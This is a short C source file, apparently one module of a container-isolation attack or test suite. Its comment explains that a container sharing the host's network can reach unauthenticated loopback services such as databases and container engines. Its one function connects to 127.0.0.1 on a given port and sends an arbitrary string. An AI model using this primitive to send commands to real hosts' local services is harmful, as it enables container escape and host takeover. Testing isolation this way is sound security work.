/*
 * What listens on 127.0.0.1 trusts whoever can connect: only programs of this machine can. A box with the host's network is one of them. So
 * databases without a password, and the engines that make containers, have been taken over.
 */
#include "attack.h"
#include <arpa/inet.h>
#include <sys/socket.h>

/* argv: a port, what to say there. */
void host_network(char **argv)
{
	const struct sockaddr_in address = {
		.sin_family = AF_INET,
		.sin_port = htons(atoi(argv[0])),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
	const int line = must(socket(AF_INET, SOCK_STREAM, 0), "make a socket");
	must(connect(line, (const struct sockaddr *)&address, sizeof address), "connect to the host");
	must(write(line, argv[1], strlen(argv[1])), "say something to it");
}
